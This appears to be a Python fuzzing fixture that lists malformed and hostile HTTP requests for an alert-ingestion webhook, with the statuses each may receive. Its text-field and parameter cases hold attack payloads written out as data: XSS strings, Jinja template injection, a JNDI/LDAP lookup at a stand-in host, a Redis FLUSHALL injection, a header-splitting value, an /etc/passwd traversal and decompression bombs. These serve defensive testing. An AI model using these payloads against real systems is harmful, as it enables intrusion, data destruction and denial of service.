"""Requests that senders, and people who mean no good, really send: each with the answers that are allowed.

Nothing here may ever be answered with a 5xx. The table is used twice: on the reading of the body alone, and
over HTTP against the whole service.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from app.web.http.body import MAX_BODY

OK = frozenset({200, 201})
BAD = frozenset({400})
LARGE = frozenset({413})
EITHER = OK | BAD
# Servers in front have limits of their own for the request line.
OK_OR_LINE_TOO_LONG = frozenset({200, 201, 400, 414})
LINE_TOO_LONG = frozenset({400, 414})

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
FORM_ODDLY_NAMED = {"Content-Type": "Application/X-WWW-Form-Urlencoded; charset=x"}
MULTIPART = {"Content-Type": "multipart/form-data; boundary=frontier"}
NO_BOUNDARY = {"Content-Type": "multipart/form-data"}
GZIP = {"Content-Encoding": "gzip"}
DEFLATE = {"Content-Encoding": "deflate"}

PLAIN = b'{"title": "Disk full"}'


@dataclass(frozen=True)
class Nasty:
    """One request: `query` is what stands after the question mark, `allowed` the statuses of its answer."""

    name: str
    raw: bytes = PLAIN
    headers: dict[str, str] = field(default_factory=dict)
    query: str = ""
    allowed: frozenset[int] = OK


def _part(name: str, content: str, *, file: str = "") -> str:
    """One part of a multipart form."""
    more = f'; filename="{file}"' if file else ""
    return f'--frontier\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{content}\r\n'


def _multipart(*parts: str, end: str = "--frontier--\r\n") -> bytes:
    return ("".join(parts) + end).encode()


def _of_size(size: int) -> bytes:
    """A valid body of exactly so many bytes."""
    frame = b'{"title": "Disk full", "filler": ""}'
    return frame[:-2] + b"x" * (size - len(frame)) + frame[-2:]


def _nested(depth: int, opening: str, closing: str) -> bytes:
    """An object with so many levels, itself included."""
    inner = opening * (depth - 1) + "1" + closing * (depth - 1)
    return f'{{"title": "Deep", "x": {inner}}}'.encode()


def _raw_deflate(data: bytes) -> bytes:
    stream = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return stream.compress(data) + stream.flush()


def _damaged(data: bytes) -> bytes:
    """Gzip whose checksum, four bytes before the last four, is wrong."""
    return data[:-8] + bytes(byte ^ 0xFF for byte in data[-8:-4]) + data[-4:]


NOTHING = [
    Nasty("empty body", b"", allowed=BAD),
    Nasty("blank body", b" \r\n\t ", allowed=BAD),
    Nasty("byte order mark alone", b"\xef\xbb\xbf", allowed=BAD),
    Nasty("one NUL", b"\0", allowed=BAD),
    Nasty("a hundred NULs", b"\0" * 100, allowed=BAD),
    Nasty("empty body said to be gzip", b"", GZIP, allowed=BAD),
    Nasty("gzip of nothing", gzip.compress(b""), GZIP, allowed=BAD),
    Nasty("empty form", b"", FORM, allowed=BAD),
]

BROKEN = [
    Nasty(name, raw, allowed=BAD)
    for name, raw in [
        ("object cut off", b'{"title": "x"'),
        ("string cut off", b'{"title": "x'),
        ("escape cut off", b'{"title": "\\u00'),
        ("key alone", b'{"title"}'),
        ("wrong closing bracket", b'[{"title": "x"}}'),
        ("array cut off", b'[{"title": "x"},'),
        ("plain text", b"disk full on db-7"),
        ("XML", b'<?xml version="1.0"?><alert><title>Disk full</title></alert>'),
        ("YAML", b"title: Disk full\nseverity: high\n"),
        ("unfinished second line", b'{"title": "x"}\n{"title": '),
        ("form without its content type", b"title=Disk+full&severity=high"),
        ("gzip without its header", gzip.compress(PLAIN)),
        ("base64 of JSON", base64.b64encode(PLAIN)),
        ("random bytes", bytes(range(256))),
        ("quotes only", b'"' * 999),
    ]
]

REPAIRED = [
    Nasty(name, raw)
    for name, raw in [
        ("unknown escape", b'{"title": "\\x41"}'),
        ("value missing", b'{"title": }'),
        ("comma too many", b'{"title": "x",}'),
        ("comma missing", b'{"title": "x" "severity": "high"}'),
        ("single quotes", b"{'title': 'x'}"),
        ("bare words", b"{title: x}"),
        ("comment", b'{"title": "x" /* why not */}'),
        ("closing bracket too many", b'{"title": "x"}}'),
        ("array with a hole", b'[{"title": "x"},,{"title": "y"}]'),
        ("number with a leading zero", b'{"n": 007}'),
        ("hexadecimal number", b'{"n": 0x10}'),
        ("Python's None", b'{"title": None}'),
        ("unescaped quote", b'{"title": "field "spec" is immutable"}'),
        ("Windows path", b'{"title": "C:\\Program Files is full"}'),
    ]
]

SHAPES = [
    Nasty(name, raw, allowed=BAD)
    for name, raw in [
        ("string", b'"just a string"'),
        ("number", b"42"),
        ("true", b"true"),
        ("null", b"null"),
        ("NaN alone", b"NaN"),
        ("empty array", b"[]"),
        ("array of an empty array", b"[[]]"),
        ("array of numbers", b"[1, 2, 3]"),
        ("array with null at the end", b'[{"title": "x"}, null]'),
        ("array with a string in the middle", b'[{"title": "x"}, "y", {"title": "z"}]'),
        ("array within the array", b'[{"title": "x"}, [{"title": "y"}]]'),
        ("object and then a number", b'{"title": "x"} 1'),
        ("scalars after one another", b"1 2 3"),
    ]
]

DEEP = [
    Nasty("100 levels of objects", _nested(100, '{"a":', "}")),
    Nasty("100 levels of arrays", _nested(100, "[", "]")),
    *[
        Nasty(f"{depth} levels of {kind}", _nested(depth, opening, closing), allowed=BAD)
        for depth in (101, 1000, 100_000)
        for kind, opening, closing in [("objects", '{"a":', "}"), ("arrays", "[", "]")]
    ],
    Nasty("100,000 brackets open", b"[" * 100_000, allowed=BAD),
    Nasty("100,000 brackets close", b"]" * 100_000, allowed=BAD),
    Nasty("too deep in one element", b'[{"title": "x"}, ' + _nested(101, "[", "]") + b"]", allowed=BAD),
]

VALUES = [
    Nasty("NaN and the infinities", b'{"title": NaN, "severity": Infinity, "started_at": -Infinity}'),
    Nasty("float that overflows", b'{"title": "x", "started_at": 1e999}'),
    Nasty("float that underflows", b'{"title": "x", "started_at": 1e-999}'),
    Nasty("exponent of a million digits", b'{"title": 1e' + b"9" * 1_000_000 + b"}"),
    Nasty(
        "integer of 300 digits", b'{"title": ' + b"9" * 300 + b', "deduplication_key": ' + b"9" * 300 + b"}"
    ),
    Nasty("integer of 301 digits", b'{"title": ' + b"9" * 301 + b', "started_at": ' + b"9" * 301 + b"}"),
    Nasty("integer of a million digits", b'{"started_at": ' + b"1" * 1_000_000 + b"}"),
    Nasty("negative integer of 5,000 digits", b'{"labels": {"n": -' + b"1" * 5000 + b"}}"),
    Nasty("minus zero", b'{"title": -0, "started_at": -0.0}'),
    Nasty("time far in the future", b'{"title": "x", "started_at": 99999999999999999999}'),
    Nasty("time before Christ", b'{"title": "x", "started_at": -99999999999}'),
    Nasty("30th of February", b'{"title": "x", "started_at": "2026-02-30T25:61:61Z"}'),
    Nasty("year 0", b'{"title": "x", "started_at": "0000-00-00T00:00:00Z"}'),
    Nasty("Latin-1 letter", '{"title": "Küche überhitzt"}'.encode("latin-1")),
    Nasty("invalid UTF-8", b'{"title": "\xff\xfe\xc0\x80\xed\xa0\x80", "\xf8": "\xc3"}'),
    Nasty("UTF-8 with a byte order mark", b"\xef\xbb\xbf" + PLAIN),
    Nasty("UTF-16", PLAIN.decode().encode("utf-16")),
    Nasty("UTF-32", PLAIN.decode().encode("utf-32-be")),
    Nasty("lone surrogate", b'{"title": "\\ud800", "\\udfff": "\\udc00\\ud800"}'),
    Nasty("lone surrogate as a key", b'{"deduplication_key": "\\ud83d", "labels": {"\\ud83d": "\\ude00"}}'),
    Nasty("NUL, escaped", b'{"title": "a\\u0000b", "deduplication_key": "\\u0000"}'),
    Nasty("NUL, raw", b'{"title": "a\0b", "description": "\0"}'),
    Nasty("control characters, raw", b'{"title": "a\x01\x1b[31m\x7f\r\nSet-Cookie: a=b"}'),
    Nasty("title of blanks", b'{"title": " \\t\\n\\u00a0\\u2003 "}'),
    Nasty("right-to-left override", '{"title": "\u202edrocer\u2066 \u200b\u2028\u2029"}'.encode()),
    Nasty("combining marks", ('{"title": "Z' + "\u0351" * 5000 + '"}').encode()),
    Nasty("duplicate keys", b'{"title": "first", "title": null, "title": {"a": 1}, "title": "last"}'),
    Nasty("empty keys", b'{"": "", "": {"": []}}'),
    Nasty("empty object", b"{}"),
    Nasty("keys of Python objects", b'{"__class__": "x", "__proto__": {"a": 1}, "constructor": {}}'),
    Nasty(
        "10,000 labels", json.dumps({"title": "x", "labels": {f"l{i}": i for i in range(10_000)}}).encode()
    ),
    Nasty("very long key", b'{"title": "x", "' + b"k" * 200_000 + b'": 1}'),
    Nasty("very long identity", b'{"title": "x", "deduplication_key": "' + b"k" * 200_000 + b'"}'),
    Nasty("very long title", b'{"title": "' + b"long " * 100_000 + b'"}'),
    Nasty("title of 100,000 lines", b'{"title": "' + b"a\\n" * 100_000 + b'"}'),
]

SHOWN = ("title", "description", "service", "source")

TEXTS = [
    Nasty(name, json.dumps(dict.fromkeys(SHOWN, text)).encode())
    for name, text in [
        ("script", "<script>alert(1)</script>"),
        ("HTML that breaks out", "\"'></title></textarea><img src=x onerror=alert(1)>"),
        ("Jinja expression", "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}"),
        ("Jinja statement that never ends", "{% for a in range(10**9) %}{{ a }}{% endfor %}"),
        ("broken Jinja", "{{ {% {# }} %}"),
        ("Python format", "{0.__class__} %s %(x)s %n"),
        ("Markdown", "[click](javascript:alert(1)) ![](http://192.0.2.1/x.png)"),
        ("Redis protocol", "\r\n*1\r\n$8\r\nFLUSHALL\r\n"),
        ("look-up of a logger", "${jndi:ldap://192.0.2.1/a}"),
        ("variable of the configuration", "${INCIDENTIO_API_KEY}"),
    ]
] + [
    Nasty("script as a link", b'{"title": "x", "source_url": "javascript:alert(1)"}'),
    Nasty("link that is no URL", b'{"title": "x", "source_url": "http://[::1"}'),
    Nasty("link with a password", b'{"title": "x", "source_url": "https://user:pass@example.com/"}'),
    Nasty("link with line breaks", b'{"title": "x", "source_url": "https://example.com/\\r\\nX: y"}'),
]

SIZES = [
    Nasty("5,001 incidents", b"{}" * 5001, allowed=LARGE),
    Nasty("two million incidents", b"{}" * (MAX_BODY // 2), allowed=LARGE),
    Nasty("exactly 4 MiB", _of_size(MAX_BODY)),
    Nasty("one byte more than 4 MiB", _of_size(MAX_BODY + 1), allowed=LARGE),
    Nasty("4 MiB and one byte of blanks", PLAIN + b" " * (MAX_BODY + 1 - len(PLAIN)), allowed=LARGE),
    Nasty("4 MiB in gzip", gzip.compress(_of_size(MAX_BODY)), GZIP),
    Nasty("4 MiB and one byte in gzip", gzip.compress(_of_size(MAX_BODY + 1)), GZIP, allowed=LARGE),
    Nasty("4 MiB and one byte in deflate", zlib.compress(_of_size(MAX_BODY + 1)), DEFLATE, allowed=LARGE),
    Nasty("gzip bomb", gzip.compress(bytes(32 * MAX_BODY)), GZIP, allowed=LARGE),
    Nasty("gzip bomb of two members", gzip.compress(bytes(MAX_BODY)) * 2, GZIP, allowed=LARGE),
    Nasty("deflate bomb", zlib.compress(bytes(32 * MAX_BODY)), DEFLATE, allowed=LARGE),
    Nasty("half a million zeros in an array", b'{"title": "x", "a": [' + b"0," * 500_000 + b"0]}"),
    Nasty("100,000 keys", b'{"title": "x",' + b",".join(b'"%x":0' % i for i in range(100_000)) + b"}"),
]

ENCODINGS = [
    Nasty("gzip", gzip.compress(PLAIN), GZIP),
    Nasty("gzip in capitals", gzip.compress(PLAIN), {"Content-Encoding": " GZIP "}),
    Nasty("gzip of two members", gzip.compress(PLAIN[:9]) + gzip.compress(PLAIN[9:]), GZIP),
    Nasty("deflate", zlib.compress(PLAIN), DEFLATE),
    Nasty("deflate without zlib's frame", _raw_deflate(PLAIN), DEFLATE),
    Nasty("identity", PLAIN, {"Content-Encoding": "identity"}),
    Nasty("gzip cut off", gzip.compress(PLAIN)[:-9], GZIP, allowed=BAD),
    Nasty("gzip without its checksum", gzip.compress(PLAIN)[:-8], GZIP, allowed=BAD),
    Nasty("gzip with a wrong checksum", _damaged(gzip.compress(PLAIN)), GZIP, allowed=BAD),
    Nasty("gzip with garbage after it", gzip.compress(PLAIN) + b"garbage", GZIP, allowed=BAD),
    Nasty("gzip's first two bytes", b"\x1f\x8b", GZIP, allowed=BAD),
    Nasty("gzip of gzip", gzip.compress(gzip.compress(PLAIN)), GZIP, allowed=BAD),
    Nasty("JSON said to be gzip", PLAIN, GZIP, allowed=BAD),
    Nasty("JSON said to be deflate", PLAIN, DEFLATE, allowed=BAD),
    Nasty("deflate cut off", zlib.compress(PLAIN)[:-6], DEFLATE, allowed=BAD),
    Nasty("Brotli", PLAIN, {"Content-Encoding": "br"}, allowed=BAD),
    Nasty(
        "two encodings", gzip.compress(gzip.compress(PLAIN)), {"Content-Encoding": "gzip, gzip"}, allowed=BAD
    ),
    Nasty("encoding that nobody knows", PLAIN, {"Content-Encoding": "x" * 2000}, allowed=BAD),
]

TYPES = [
    Nasty(f"content type {kind!r}", PLAIN, {"Content-Type": kind})
    for kind in [
        "text/plain",
        "text/html",
        "application/json; charset=utf-7",
        "application/json; charset=no-such-charset",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "nonsense",
        ";;;=",
        "application/json" * 100,
    ]
]

FORMS = [
    Nasty("form", b"title=Disk+full&severity=high", FORM),
    Nasty("form with a character set", b"title=x", FORM_ODDLY_NAMED),
    Nasty("form with JSON in payload", b"payload=%7B%22title%22%3A+%22Disk+full%22%7D", FORM),
    Nasty("form with broken JSON in payload", b"payload=%7B%22title%22&title=x", FORM),
    Nasty("form with deep JSON in payload", b"payload=" + quote("[" * 5000).encode(), FORM),
    Nasty("form with bad escapes", b"title=%&severity=%zz&%f0%28=%ff", FORM),
    Nasty("form with a NUL", b"title=%00&a%00b=c", FORM),
    Nasty("form of signs", b"=&&==&=x", FORM),
    Nasty("form with a field twice", b"title=first&title=last", FORM),
    Nasty("form with a surrogate", b"title=%ed%a0%80", FORM),
    Nasty("form without fields", b"disk full", FORM, allowed=BAD),
    Nasty("form of ampersands", b"&" * 1000, FORM, allowed=BAD),
    Nasty("form of 100,000 fields", b"a=b&" * 100_000, FORM, allowed=BAD),
    Nasty("broken JSON under a form's type", b'{"title": "a=b"', FORM, allowed=BAD),
    Nasty("string under a form's type", b'"a=b"', FORM, allowed=BAD),
    Nasty("multipart form", _multipart(_part("title", "Disk full"), _part("severity", "high")), MULTIPART),
    Nasty("multipart form with JSON in data", _multipart(_part("data", '{"title": "x"}')), MULTIPART),
    Nasty("multipart form with a file", _multipart(_part("t", "x"), _part("f", "y", file="../x")), MULTIPART),
    Nasty("multipart form without boundary", _multipart(_part("a", "b")), NO_BOUNDARY, allowed=BAD),
    Nasty("multipart form cut off", _multipart(_part("title", "x"), end=""), MULTIPART, allowed=EITHER),
    Nasty("multipart form with another boundary", b"--other\r\n\r\n--other--", MULTIPART, allowed=BAD),
    Nasty("multipart form of files only", _multipart(_part("f", "y", file="x")), MULTIPART, allowed=BAD),
    Nasty("multipart form of 10,000 parts", _multipart(*[_part("a", "b")] * 10_000), MULTIPART, allowed=BAD),
]  # fmt: skip

SEVERAL = [
    Nasty("objects line by line", b'{"title": "x"}\n{"title": "y"}\r\n\n{"title": "z"}\n'),
    Nasty("objects joined", b'{"title": "x"}{"title": "y"}'),
    Nasty("objects with commas between", b'{"title": "x"},{"title": "y"}'),
    Nasty("array of 300", json.dumps([{"title": f"x {i}"} for i in range(300)]).encode()),
    Nasty("array of the same object", b"[" + b",".join([b'{"deduplication_key": 1}'] * 20) + b"]"),
    Nasty("array and then an array", b'[{"title": "x"}][{"title": "y"}]', allowed=BAD),
]

# -- wrong types where a sender's fields are known ----------------------------------------------------

WRONG: dict[str, Any] = {
    "null": None,
    "zero": 0,
    "a fraction": -1.5,
    "true": True,
    "an empty string": "",
    "an empty list": [],
    "an empty object": {},
    "a list of nulls": [None, None],
    "a list of lists": [[["x"]]],
    "an object of lists": {"x": [1], "y": None},
    "a long number": 10**200,
    "a placeholder": "{{ alert.id }}",
}

GENERIC = [
    "title", "summary", "message", "description", "severity", "priority", "service", "source", "source_url",
    "url", "started_at", "timestamp", "labels", "tags", "status", "state", "deduplication_key", "fingerprint",
]  # fmt: skip

GROUP = [
    "version", "groupKey", "truncatedAlerts", "status", "receiver", "groupLabels", "commonLabels",
    "commonAnnotations", "externalURL", "alerts", "orgId", "title", "state",
]  # fmt: skip

ALERT = ["status", "labels", "annotations", "startsAt", "endsAt", "generatorURL", "fingerprint", "values"]


def _group(alert: Any = None, **fields: Any) -> bytes:
    """A body of Alertmanager, with these fields instead of the right ones."""
    right = {
        "status": "firing",
        "labels": {"alertname": "DiskFull"},
        "annotations": {"summary": "The disk is full"},
        "startsAt": "2026-03-04T05:06:07Z",
    }
    body = {
        "version": "4",
        "groupKey": "{}:{x=1}",
        "status": "firing",
        "receiver": "versus",
        "groupLabels": {},
    }
    return json.dumps({**body, "alerts": [{**right, **(alert or {})}], **fields}).encode()


WRONG_TYPES = [
    *[
        Nasty(f"{what} in every generic field", json.dumps(dict.fromkeys(GENERIC, wrong)).encode())
        for what, wrong in WRONG.items()
    ],
    *[
        Nasty(f"{what} as the alerts of Alertmanager", _group(alerts=wrong)) for what, wrong in WRONG.items()
    ],
    *[
        Nasty(f"{what} in every field of Alertmanager", json.dumps(dict.fromkeys(GROUP, wrong)).encode())
        for what, wrong in WRONG.items()
    ],
    *[
        Nasty(f"{what} in every field of an alert", _group(dict.fromkeys(ALERT, wrong)))
        for what, wrong in WRONG.items()
    ],
    *[Nasty(f"generic {name} is a list", json.dumps({name: [{"x": 1}, "y"]}).encode()) for name in GENERIC],
    *[Nasty(f"Alertmanager's {name} is a list", _group(**{name: [{"x": 1}, "y"]})) for name in GROUP],
    *[Nasty(f"an alert's {name} is a list", _group({name: [{"x": 1}, "y"]})) for name in ALERT],
    Nasty("labels whose values are objects", _group({"labels": {"alertname": {"x": 1}, "severity": [1]}})),
    Nasty("alerts of numbers", _group(alerts=[1, 2, 3])),
    Nasty("SNS whose message is broken JSON", json.dumps(
        {"Type": "Notification", "MessageId": "1", "TopicArn": "x", "Message": '{"AlarmName": '}).encode()),
    Nasty("SNS whose message is deep", json.dumps(
        {"Type": "Notification", "MessageId": "1", "TopicArn": "x", "Message": "[" * 100_000}).encode()),
    Nasty("Sentry whose issue is a number", b'{"action": "created", "data": {"issue": 7, "event": []}}'),
    Nasty("CloudWatch whose trigger is a string", b'{"AlarmName": 1, "NewStateValue": 2, "Trigger": "x"}'),
]  # fmt: skip

PARAMETERS = [
    Nasty(f"?{query[:60]}", query=query, allowed=allowed)
    for query, allowed in [
        ("oncall_enable=maybe", BAD),
        ("oncall_enable=", EITHER),
        ("oncall_enable", EITHER),
        ("oncall_enable=1", OK),
        ("oncall_enable=TRUE", OK),
        ("oncall_enable=true%00", BAD),
        ("oncall_enable=%ff", BAD),
        ("oncall_enable[]=true", BAD),
        ("oncall_enable=true&oncall_enable=true", EITHER),
        ("oncall_enable=true&oncall_enable=false", BAD),
        ("oncall_wait_minutes=0.5", OK),
        ("oncall_wait_minutes=10080", OK),
        ("oncall_wait_minutes=10081", BAD),
        ("oncall_wait_minutes=10080.0001", BAD),
        ("oncall_wait_minutes=-1", BAD),
        ("oncall_wait_minutes=-0", EITHER),
        ("oncall_wait_minutes=NaN", BAD),
        ("oncall_wait_minutes=inf", BAD),
        ("oncall_wait_minutes=-Infinity", BAD),
        ("oncall_wait_minutes=abc", BAD),
        ("oncall_wait_minutes=3m", BAD),
        ("oncall_wait_minutes=1,5", BAD),
        ("oncall_wait_minutes=1e400", BAD),
        ("oncall_wait_minutes=1e-400", EITHER),
        ("oncall_wait_minutes=0x10", BAD),
        ("oncall_wait_minutes=1_0", BAD),
        ("oncall_wait_minutes=", BAD),
        ("oncall_wait_minutes=" + quote("٣"), BAD),
        ("oncall_wait_minutes=" + quote("½"), BAD),
        ("oncall_wait_minutes=%00", BAD),
        ("oncall_wait_minutes=" + "9" * 3000, BAD),
        ("oncall_wait_minutes=1&oncall_wait_minutes=2", BAD),
        ("incidentio_other_alert_source=no-such-source", BAD),
        ("incidentio_other_alert_source=", EITHER),
        ("incidentio_other_alert_source=../../etc/passwd", BAD),
        ("incidentio_other_alert_source=%00", BAD),
        ("incidentio_other_alert_source=%7B%7B7*7%7D%7D", BAD),
        ("incidentio_other_alert_source=a&incidentio_other_alert_source=b", BAD),
        ("incidentio_other_alert_source=" + "x" * 100_000, LINE_TOO_LONG),
        ("no_such_parameter=1", OK),
        ("&&&===%", OK),
        ("&".join(f"p{i}=1" for i in range(10_000)), OK_OR_LINE_TOO_LONG),
    ]
]

NASTY: list[Nasty] = [
    *NOTHING, *BROKEN, *REPAIRED, *SHAPES, *DEEP, *VALUES, *TEXTS, *SIZES, *ENCODINGS, *TYPES, *FORMS,
    *SEVERAL, *WRONG_TYPES, *PARAMETERS,
]  # fmt: skip
